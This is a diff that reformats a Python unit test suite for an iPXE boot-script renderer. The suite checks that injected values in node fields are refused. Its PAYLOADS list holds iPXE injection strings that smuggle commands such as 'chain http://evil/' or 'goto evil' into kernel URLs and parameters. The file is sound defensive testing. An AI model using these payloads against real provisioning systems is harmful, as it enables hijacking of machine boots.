@@ -17,12 +17,43 @@ from services.ipxe.render import template_environment
 from tests.unit.test_ipxe_scenarios import ISCSI_CONNECTOR, KERNEL, MAC, RAMDISK, iscsi_target, node, render
 
 PAYLOADS = [
-    "x\ngoto evil", "x\r\nchain http://evil/", "x || goto evil", "x && chain http://evil/", "${net0/mac}",
-    "${uuid:hexhyp}", "x\n:ferrum_retry", "x\x00y", "x\tchain", "a\"b c\"", "x`id`", "x\\\nchain http://evil/",
-    "||", "&&", "#!ipxe\nchain http://evil/", "x; chain http://evil/", " ; chain http://evil/",
+    "x\ngoto evil",
+    "x\r\nchain http://evil/",
+    "x || goto evil",
+    "x && chain http://evil/",
+    "${net0/mac}",
+    "${uuid:hexhyp}",
+    "x\n:ferrum_retry",
+    "x\x00y",
+    "x\tchain",
+    'a"b c"',
+    "x`id`",
+    "x\\\nchain http://evil/",
+    "||",
+    "&&",
+    "#!ipxe\nchain http://evil/",
+    "x; chain http://evil/",
+    " ; chain http://evil/",
 ]
-COMMANDS = {"#!ipxe", "set", "clear", "inc", "iseq", "isset", "imgfree", "echo", "kernel", "initrd", "boot",
-            "goto", "sleep", "exit", "sanhook", "sanboot", "chain"}
+COMMANDS = {
+    "#!ipxe",
+    "set",
+    "clear",
+    "inc",
+    "iseq",
+    "isset",
+    "imgfree",
+    "echo",
+    "kernel",
+    "initrd",
+    "boot",
+    "goto",
+    "sleep",
+    "exit",
+    "sanhook",
+    "sanboot",
+    "chain",
+}
 LABELS = {"ferrum_deploy", "ferrum_retry", "ferrum_fail", "ferrum_instance", "ferrum_san"}
 OUR_VARIABLES = {"${mac:hexhyp}", "${ferrum_attempt}"}
 
@@ -65,7 +96,11 @@ async def test_driver_info_injection_is_refused(payload: str, field: str) -> Non
 @pytest.mark.parametrize("payload", PAYLOADS)
 async def test_instance_info_injection_is_refused(payload: str) -> None:
     for key in ("kernel", "ramdisk_kernel_arguments", "kernel_append_params"):
-        instance = {"kernel": "http://192.0.2.9/k", "ramdisk": "http://192.0.2.9/r", key: "http://192.0.2.9/k" + payload}
+        instance = {
+            "kernel": "http://192.0.2.9/k",
+            "ramdisk": "http://192.0.2.9/r",
+            key: "http://192.0.2.9/k" + payload,
+        }
         rendered = await render(node("active", deploy_interface="ramdisk", instance_info=instance), {"mac": MAC})
         assert rendered.kind == "error" and key in rendered.reason, (key, rendered.script)
         assert_only_our_commands(rendered.script)
@@ -91,7 +126,7 @@ async def test_san_properties_injection_is_refused(payload: str) -> None:
 
 def test_guard_refuses_unchecked_values_in_templates() -> None:
     env = template_environment()
-    for bad in ("x\ngoto evil", "${uuid}", "a || b", "a\"b", "a && b"):
+    for bad in ("x\ngoto evil", "${uuid}", "a || b", 'a"b', "a && b"):
         with pytest.raises(safety.UnsafeValue):
             env.get_template("error.ipxe.j2").render(reason=bad, reason_lines=["ok"], uuid="")
     with pytest.raises(safety.UnsafeValue):
@@ -121,9 +156,11 @@ async def test_fuzzed_fields_never_escape() -> None:
     fields = ("name", "deploy_kernel", "deploy_ramdisk", "kernel_append_params")
     for _ in range(300):
         values = {f: "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24))) for f in fields}
-        info = {"deploy_kernel": "http://h/" + values["deploy_kernel"],
-                "deploy_ramdisk": "http://h/" + values["deploy_ramdisk"],
-                "kernel_append_params": values["kernel_append_params"]}
+        info = {
+            "deploy_kernel": "http://h/" + values["deploy_kernel"],
+            "deploy_ramdisk": "http://h/" + values["deploy_ramdisk"],
+            "kernel_append_params": values["kernel_append_params"],
+        }
         rendered = await render(node("deploying", name=values["name"], driver_info=info), {"mac": MAC})
         assert_only_our_commands(rendered.script)
         action = interpret_script(rendered.script, {"mac": MAC})
